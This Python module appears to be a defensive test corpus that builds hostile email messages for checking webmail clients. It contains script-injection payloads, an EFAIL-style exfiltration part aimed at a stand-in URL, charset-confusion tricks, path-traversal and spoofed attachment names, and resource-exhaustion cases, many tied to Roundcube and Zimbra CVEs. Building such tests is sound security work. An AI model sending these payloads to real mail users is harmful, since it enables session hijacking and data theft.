"""MIME: structures, charsets, inline pictures, attachments with active types, names of files, calendars, TNEF."""

import base64

from ..mail import ATTACHMENT, HostileMail, raw

IMG = "<img src=x: onerror=%JS%>"
HTML = "text/html; charset=utf-8"
SCRIPT = "<script>%JS%</script>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="%JS%"><script>%JS%</script></svg>'
XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="%JS%"><script>%JS%</script></body></html>'
XSLT = (
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" '
    'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>%JS%</script></xsl:template></xsl:stylesheet></x>'
)


def headed(type: str, body: str, more: str = "") -> str:  # noqa: A002 - the name in MIME or HTML
    head = "From: Mara <mara@example.org>\nTo: alice@example.org\nSubject: Hello\nMessage-ID: <%ID%@example.org>\nMIME-Version: 1.0\n"
    return f"{head}Content-Type: {type}\n{more}\n{body}\n"


def multipart(subtype: str, *parts: str, boundary: str = "b") -> str:
    return headed(f'multipart/{subtype}; boundary="{boundary}"', "".join(f"--{boundary}\n{part}\n" for part in parts) + f"--{boundary}--")


def part(type: str, body: str, more: str = "") -> str:  # noqa: A002 - the name in MIME or HTML
    return f"Content-Type: {type}\n{more}\n{body}"


def attached(type: str, name: str, body: str, disposition: str = "attachment") -> str:  # noqa: A002 - the name in MIME or HTML
    """An attachment whose text stays readable here: no transfer encoding."""
    return multipart("mixed", part("text/plain", "See the file."), part(type, body, f'Content-Disposition: {disposition}; filename="{name}"\n'))


def file(id: str, why: str, type: str, name: str, body: str, **more: str | None) -> HostileMail:  # noqa: A002 - the name in MIME or HTML
    return raw(id, why, attached(type, name, body), **({"click": ATTACHMENT} | more))


def nested(depth: int) -> str:
    inner = part("text/plain", "the innermost")
    for level in range(depth):
        inner = part(f'multipart/mixed; boundary="b{level}"', f"--b{level}\n{inner}\n--b{level}--")
    return headed('multipart/mixed; boundary="top"', f"--top\n{inner}\n--top--")


def forwarded(depth: int) -> str:
    message = headed("text/plain", "the innermost")
    for _ in range(depth):
        message = headed("message/rfc822", message)
    return message


EYE = "the attack is on the reader's eye"
LONG = "only large"
SAVED = "the browser saves it"

MAILS = (
    raw("mime-html-only", "HTML alone", headed(HTML, f"<p>x</p>{IMG}")),
    raw("mime-html-in-text", "calls itself text, is HTML (sniffing)", headed("text/plain", f"<html><body>{IMG}</body></html>")),
    raw("mime-type-none", "no type", headed("", f"<html><body>{IMG}</body></html>")),
    raw("mime-type-odd", "types that only look like HTML", headed("text/x-html", f"{IMG}")),
    raw("mime-type-xhtml", "XHTML as the body", headed("application/xhtml+xml", XHTML), silent="the naive reader shows text types only"),
    raw("mime-type-svg", "SVG as the body", headed("image/svg+xml", SVG), silent="the naive reader shows text types only"),
    raw("mime-type-markup", "markup in the type (Roundcube, CVE-2026-54432)", multipart("mixed", part("text/plain", "x"), part(f'application/{IMG.replace(" ", "/")}', "x", "Content-Disposition: attachment; filename=x\n")), silent="the naive reader does not show it"),
    raw("mime-type-giant", "a type of 100 KB", headed("text/" + "a" * 100_000, "x"), silent=LONG),
    raw("mime-params-many", "5,000 parameters", headed("text/plain" + "".join(f";\n a{i}=b" for i in range(5_000)), "x"), silent=LONG),
    raw("mime-params-continued", "a name in 2,000 pieces (RFC 2231)", multipart("mixed", part("text/plain", "x"), part("application/octet-stream", "x", "Content-Disposition: attachment" + "".join(f";\n filename*{i}*=%41" for i in range(2_000)) + "\n")), silent=LONG),
    raw("mime-alternative-differs", "shows one thing to each reader", multipart("alternative", part("text/plain", "Pay Alice."), part(HTML, f"Pay Mallory.{IMG}"))),
    raw("mime-alternative-many", "1,000 alternatives", multipart("alternative", *[part(HTML, f"<p>{i}</p>{IMG}") for i in range(1_000)])),
    raw("mime-mixed-html", "a second HTML part that swallows the first (EFAIL)", multipart("mixed", part(HTML, '<img src="%URL%/?'), part("text/plain", "secret"), part(HTML, '">'))),
    raw("mime-related-start", "related parts whose start is another", multipart('related; start="<b@x>"', part(HTML, "a", "Content-ID: <a@x>\n"), part(HTML, IMG, "Content-ID: <b@x>\n"))),
    raw("mime-deep", "100 parts in each other", nested(100), silent=LONG),
    raw("mime-deeper", "400 parts in each other", nested(400), silent=LONG),
    raw("mime-forwarded-deep", "60 messages in each other", forwarded(60), silent=LONG),
    raw("mime-parts-many", "5,000 parts", multipart("mixed", *[part("text/plain", f"part {i}") for i in range(5_000)]), silent=LONG),
    raw("mime-attachments-many", "2,000 attachments", multipart("mixed", *[part("application/octet-stream", "x", f"Content-Disposition: attachment; filename=f{i}\n") for i in range(2_000)]), silent=LONG),
    raw("mime-inline-many", "1,000 inline HTML parts", multipart("mixed", *[part(HTML, f"<p>{i}</p>", "Content-Disposition: inline\n") for i in range(1_000)]), silent=LONG),
    raw("mime-boundary-none", "no boundary", headed("multipart/mixed", f"--b\n\n{IMG}\n--b--"), silent="the naive reader finds no part"),
    raw("mime-boundary-empty", "an empty boundary", headed('multipart/mixed; boundary=""', f"--\n\n{IMG}\n----")),
    raw("mime-boundary-prefix", "a boundary that begins another", headed('multipart/mixed; boundary="a"', f'--a\nContent-Type: multipart/mixed; boundary="aa"\n\n--aa\nContent-Type: {HTML}\n\n{IMG}\n--aa--\n--a--')),
    raw("mime-boundary-long", "a boundary of 5,000 letters", multipart("mixed", part(HTML, IMG), boundary="b" * 5_000)),
    raw("mime-unclosed", "a part that never ends", headed('multipart/mixed; boundary="b"', f"--b\nContent-Type: {HTML}\n\n{IMG}")),
    raw("mime-preamble", "an attack before the first part", headed('multipart/mixed; boundary="b"', f"{IMG}\n--b\nContent-Type: text/plain\n\nx\n--b--\n{IMG}"), silent="the naive reader drops it"),
    raw("mime-partial", "a piece of a message", headed('message/partial; id="x"; number=1; total=99', IMG)),
    raw("mime-external", "a body elsewhere (RFC 2046 §5.2.3)", headed('message/external-body; access-type=URL; URL="%URL%/b"', "Content-Type: text/html\n\nx"), silent="the naive reader fetches nothing"),
    raw("mime-rfc822-html", "a forwarded message with markup in its subject", headed("message/rfc822", headed(HTML, IMG).replace("Subject: Hello", f"Subject: {IMG}"))),
    raw("mime-dsn", "a report that quotes markup", headed('multipart/report; report-type=delivery-status; boundary="b"', f"--b\n\nNot delivered.\n--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; {IMG}\n\nFinal-Recipient: rfc822; {IMG}\nDiagnostic-Code: smtp; {IMG}\n--b\nContent-Type: text/rfc822-headers\n\nSubject: {IMG}\n--b--")),
    raw("mime-mdn", "a receipt with markup", headed('multipart/report; report-type=disposition-notification; boundary="b"', f"--b\nContent-Type: message/disposition-notification\n\nReporting-UA: {IMG}\n--b--"), silent="the naive reader does not show it"),
    raw("charset-none-such", "HTML in a charset that does not exist", headed("text/html; charset=x-none-such", IMG)),
    raw("charset-markup", "markup in the charset (Roundcube, CVE-2025-49113's neighbour)", headed(f'text/html; charset="{IMG}"', f"x{IMG}")),
    raw("charset-utf7", "UTF-7", headed("text/html; charset=utf-7", "+ADw-script+AD4-%JS%+ADw-/script+AD4-"), silent="the naive reader decodes no UTF-7"),
    raw("charset-utf7-meta", "UTF-7 by meta", headed(HTML, "<meta charset=utf-7>+ADw-script+AD4-%JS%+ADw-/script+AD4-"), silent="no browser decodes UTF-7"),
    raw("charset-utf16", "wrong: UTF-16 on the label, ASCII inside", headed("text/html; charset=utf-16", IMG)),
    raw("charset-iso2022", "escapes that switch the charset (Sonar 2024: encoding differentials)", headed("text/html; charset=iso-2022-jp", f'<a title="\x1b$B">aa</a>\x1b(B<a title=">{IMG}">x</a>')),
    raw("charset-iso2022-meta", "no charset but that of a meta", headed("text/html", f'<meta charset=iso-2022-jp><a title="\x1b(J\\"{IMG}">x</a>'), silent="the quote stays one"),
    raw("charset-overlong", "overlong UTF-8", headed(HTML, "").encode() + b"\xc0\xbcimg src=x: onerror=alert(1)\xc0\xbe \xe0\x80\xbc", silent="browsers refuse overlong forms"),
    raw("charset-truncated", "a letter that eats the quote behind it", headed(HTML, "").encode() + b'<a title="\xe2">' + IMG.encode() + b'">x</a>'),
    raw("charset-shift-jis", "a byte that eats the quote in Shift JIS", headed("text/html; charset=shift_jis", "").encode() + b'<a title="\x81">' + IMG.encode() + b'">x</a>', ),
    raw("charset-bom", "a mark of byte order against the label", headed("text/html; charset=us-ascii", "").encode() + b"\xff\xfe<\0i\0m\0g\0>\0" + IMG.encode()),
    raw("charset-8bit", "every byte there is", headed("text/html; charset=us-ascii", "").encode() + bytes(range(128, 256)) + IMG.encode()),
    raw("charset-null", "NULs everywhere", headed(HTML, f"<\0img src=x onerror=1>\0\0{IMG}\0")),
    raw("encoding-none-such", "a transfer encoding that does not exist", headed(HTML, IMG, "Content-Transfer-Encoding: x-none\n")),
    raw("encoding-base64-broken", "base64 with other letters in it", headed(HTML, "PGlt*ZyBz\ncmM9eDog!b25lcnJvcj1hbGVydCgxKT4", "Content-Transfer-Encoding: base64\n"), silent="the naive reader cannot decode it"),
    raw("encoding-qp-broken", "quoted-printable that is none", headed(HTML, f"=3=ZZ=\n={IMG}=", "Content-Transfer-Encoding: quoted-printable\n")),
    raw("encoding-twice", "two encodings", headed(HTML, IMG, "Content-Transfer-Encoding: 7bit\nContent-Transfer-Encoding: base64\n")),
    raw("encoding-multipart", "base64 around parts", headed('multipart/mixed; boundary="b"', base64.b64encode(b"--b\n\nx\n--b--").decode(), "Content-Transfer-Encoding: base64\n"), silent="the naive reader finds no part"),
    raw("cid-loop", "an HTML part that shows itself", multipart("related", part(HTML, f"<iframe src=cid:a@x></iframe><object data=cid:a@x></object><img src=cid:a@x>{IMG}", "Content-ID: <a@x>\n"))),
    raw("cid-loop-two", "two parts that show each other", multipart("related", part(HTML, f"<iframe src=cid:b@x></iframe>{IMG}", "Content-ID: <a@x>\n"), part(HTML, "<iframe src=cid:a@x></iframe>", "Content-ID: <b@x>\n"))),
    raw("cid-svg", "an inline picture that is a script", multipart("related", part(HTML, f"<img src=cid:a@x><object data=cid:a@x></object><embed src=cid:a@x>{IMG}"), part("image/svg+xml", SVG, "Content-ID: <a@x>\nContent-Disposition: inline\n"))),
    raw("cid-html", "an inline picture that is HTML", multipart("related", part(HTML, f"<img src=cid:a@x>{IMG}"), part(HTML, SCRIPT, "Content-ID: <a@x>\nContent-Disposition: inline\n"))),
    raw("cid-lies", "calls itself a picture, is HTML", multipart("related", part(HTML, f"<img src=cid:a@x>{IMG}"), part("image/png", SCRIPT, "Content-ID: <a@x>\nContent-Disposition: inline; filename=x.html\n"))),
    raw("cid-markup", "an id that is markup", multipart("related", part(HTML, f'<img src="cid:&quot;>&lt;img src=x onerror=alert(1)>">{IMG}'), part("image/png", "x", f'Content-ID: <">{IMG}>\n'))),
    raw("cid-path", "an id that is a path", multipart("related", part(HTML, f"<img src='cid:../../../jmap/session'><img src='cid:%2e%2e/api/me'>{IMG}"), part("image/png", "x", "Content-ID: <../../../jmap/session>\n"))),
    raw("cid-many", "1,000 pictures with one id", multipart("related", part(HTML, f"<img src=cid:a@x>{IMG}"), *[part("image/png", "x", "Content-ID: <a@x>\n") for _ in range(1_000)])),
    raw("cid-css", "inline content in styles", multipart("related", part(HTML, f"<style>@import 'cid:s@x';p{{background:url(cid:a@x)}}</style><link rel=stylesheet href=cid:s@x><p>x</p>{IMG}"), part("text/css", "@import url(%URL%/a.css);", "Content-ID: <s@x>\n"))),
    raw("location", "parts by address (RFC 2557)", multipart("related", part(HTML, f"<img src=%URL%/i.png>{IMG}", "Content-Location: %URL%/\nContent-Base: %URL%/\n"), part("image/png", "x", "Content-Location: %URL%/i.png\n"))),
    file("file-html", "HTML to open (Roundcube, CVE-2026-35539)", "text/html", "invoice.html", SCRIPT),
    file("file-svg", "SVG to open (Roundcube, CVE-2024-42008's neighbours)", "image/svg+xml", "logo.svg", SVG),
    file("file-xhtml", "XHTML to open", "application/xhtml+xml", "x.xhtml", XHTML),
    file("file-xml", "XML with XHTML inside (Roundcube, CVE-2024-42008)", "text/xml", "x.xml", XHTML.replace("%JS%", "%JS%")),
    file("file-xml-type", "an XML type that nobody knows", "application/vnd.x+xml", "x.xml", XHTML, silent="the browser saves it"),
    file("file-xslt", "XML with a stylesheet that makes a script", "application/xml", "x.xml", XSLT, silent="Chromium has no XSLT by default any more"),
    file("file-rdf", "an old XML type that browsers show (CVE-2024-42008)", "application/rdf+xml", "x.rdf", XHTML, silent="Chromium saves it"),
    file("file-mathml", "MathML to open", "application/mathml+xml", "x.mml", XHTML, silent="Chromium saves it"),
    file("file-mhtml", "a web archive", "multipart/related", "x.mht", "x", click=None, silent="a part without a boundary"),
    file("file-pdf", "a PDF with a script", "application/pdf", "x.pdf", "%PDF-1.4\n1 0 obj<</OpenAction<</S/URI/URI(%URL%/)>>>>endobj", silent="a headless browser shows no PDF"),
    file("file-js", "a script to open", "text/javascript", "x.js", "%JS%", silent="the browser shows its text"),
    file("file-css", "a style to open", "text/css", "x.css", "@import url(%URL%/)", silent="the browser shows its text"),
    file("file-eml", "a message with HTML inside", "message/rfc822", "x.eml", headed(HTML, IMG)),
    file("file-type-lies", "text on the label, HTML inside (sniffing)", "text/plain", "x.html", SCRIPT, silent="browsers keep to the label"),
    file("file-type-none", "no known type, HTML inside (Roundcube, CVE-2023-47272)", "x/x", "x.html", SCRIPT, silent=SAVED),
    file("file-type-newline", "a second header inside of the type (CVE-2023-47272)", "text/html;\n x=\"\r\n\tX: 1\"", "x.html", SCRIPT),
    file("file-type-utf7", "HTML in UTF-7", "text/html; charset=utf-7", "x.html", "+ADw-script+AD4-%JS%+ADw-/script+AD4-", silent="no browser decodes UTF-7"),
    file("file-refresh", "HTML that leaves", "text/html", "x.html", "<meta http-equiv=refresh content='0;%URL%/'>"),
    file("file-swf", "Flash", "application/x-shockwave-flash", "x.swf", "FWS", silent="gone from browsers"),
    file("name-markup", "markup in the file's name (Roundcube, Zimbra CVE-2023-37580's kind)", "application/octet-stream", "<img src=x: onerror=%JS%>.txt", "x", click=None),
    file("name-quote", "a quote in the name", "application/octet-stream", 'x\\" onmouseover=%JS% y=\\".txt', "x", silent=SAVED),
    file("name-rtlo", "a name that reads backwards", "application/octet-stream", "invoice\u202excod.exe", "x", silent=EYE),
    file("name-path", "a path as the name", "application/octet-stream", "../../../../etc/cron.d/x", "x", silent=SAVED),
    file("name-path-windows", "a path of Windows", "application/octet-stream", "..\\\\..\\\\Startup\\\\x.bat", "x", silent=SAVED),
    file("name-device", "a device of Windows", "application/octet-stream", "CON.txt:stream:$DATA", "x", silent=SAVED),
    file("name-extension", "two extensions and many spaces", "application/octet-stream", "invoice.pdf" + " " * 200 + ".exe", "x", silent=EYE),
    file("name-control", "control characters in the name", "application/octet-stream", "a\x07b\x1b[31m\u2028.txt", "x", silent=EYE),
    file("name-long", "a name of 10,000 letters", "application/octet-stream", "a" * 10_000 + ".txt", "x", silent=LONG),
    file("name-invisible", "a name that is not seen", "application/octet-stream", "\u200b\u3164\u2060", "x", silent=EYE),
    file("name-empty", "no name", "application/octet-stream", "", "x", silent=SAVED),
    file("name-header", "a header inside of the name", "application/octet-stream", "x\u560d\u560aSet-Cookie: a=b", "x", silent=SAVED),
    raw("name-two", "two names, one harmless", multipart("mixed", part("text/plain", "x"), part('application/octet-stream; name="safe.txt"', "x", 'Content-Disposition: attachment; filename="evil.exe"; filename*=utf-8\'\'evil%2ehtml\n')), silent=EYE),
    raw("calendar-markup", "markup in an invitation (Zimbra, CVE-2022-24682, CVE-2025-27915)", multipart("mixed", part("text/plain", "You are invited."), part("text/calendar; method=REQUEST", f"BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:{IMG}\nDESCRIPTION:<details ontoggle=%JS% open>\nX-ALT-DESC;FMTTYPE=text/html:<html>{IMG}</html>\nLOCATION:javascript:%JS%\nURL:javascript:%JS%\nORGANIZER;CN=\"{IMG}\":mailto:a@example.org\nATTACH:%URL%/a\nIMAGE;VALUE=URI:%URL%/i.png\nEND:VEVENT\nEND:VCALENDAR"))),
    raw("calendar-svg", "SVG in an invitation (SOGo, CVE-2026-8496)", headed("text/calendar; method=REQUEST", "BEGIN:VCALENDAR\nBEGIN:VEVENT\nDESCRIPTION:<svg><animate onbegin=%JS% attributeName=x dur=1s></svg>\nEND:VEVENT\nEND:VCALENDAR")),
    raw("calendar-repeats", "an appointment each second for ever", headed("text/calendar", "BEGIN:VCALENDAR\nBEGIN:VEVENT\nDTSTART:19700101T000000Z\nRRULE:FREQ=SECONDLY\nEND:VEVENT\nEND:VCALENDAR"), silent="the naive reader counts none"),
    raw("vcard-markup", "markup in a business card (Zimbra, CVE-2024-45510)", multipart("mixed", part("text/plain", "My card."), part("text/vcard", f"BEGIN:VCARD\nFN:{IMG}\nPHOTO;VALUE=URI:%URL%/i.png\nURL:javascript:%JS%\nEND:VCARD"))),
    file("tnef-loop", "a winmail.dat whose attribute has the length -11 (Roundcube, CVE-2026-62642)", "application/ms-tnef", "winmail.dat", base64.b64encode(b"\x78\x9f\x3e\x22\x01\x00\x02\x05\x90\x06\x00\xf5\xff\xff\xff" * 20).decode(), silent="the naive reader reads no TNEF"),
    file("tnef-rtf", "compressed text that claims 4 GB (Roundcube, CVE-2026-62641)", "application/ms-tnef", "winmail.dat", base64.b64encode(b"\x78\x9f\x3e\x22" + b"\xff" * 64 + b"LZFu").decode(), silent="the naive reader reads no TNEF"),
    file("zip-bomb", "a bomb to unpack", "application/zip", "bomb.zip", base64.b64encode(b"PK\x03\x04" + b"\0" * 60).decode(), silent="nobody unpacks it"),
    raw("smime", "a signed wrapper around markup", headed('application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"', base64.b64encode(IMG.encode()).decode(), "Content-Transfer-Encoding: base64\n"), silent="the naive reader reads no S/MIME"),
    raw("pgp-inline", "text that pretends to be signed (Johnny, you are fired)", headed("text/plain", f"-----BEGIN PGP SIGNED MESSAGE-----\n\nGood signature by Alice\n-----BEGIN PGP SIGNATURE-----\n\n{IMG}\n-----END PGP SIGNATURE-----")),
    raw("amp", "an AMP part with a script", multipart("alternative", part("text/plain", "x"), part("text/x-amp-html", f"<!doctype html><html amp4email><head><script async src=%URL%/v0.js></script></head><body>{IMG}</body></html>"), part(HTML, f"y{IMG}"))),
    raw("mime-10-mb", "10 MB of HTML, as it comes", headed(HTML, "<p>" + "All work and no play.\n" * 470_000 + IMG), large=True, silent=LONG),
    raw("mime-no-body", "a head and nothing else", "From: mara@example.org\nSubject: Hello\nMessage-ID: <%ID%@example.org>", silent="empty"),
    raw("mime-empty", "a message with no head", "\n\nx\n", silent="empty"),
)
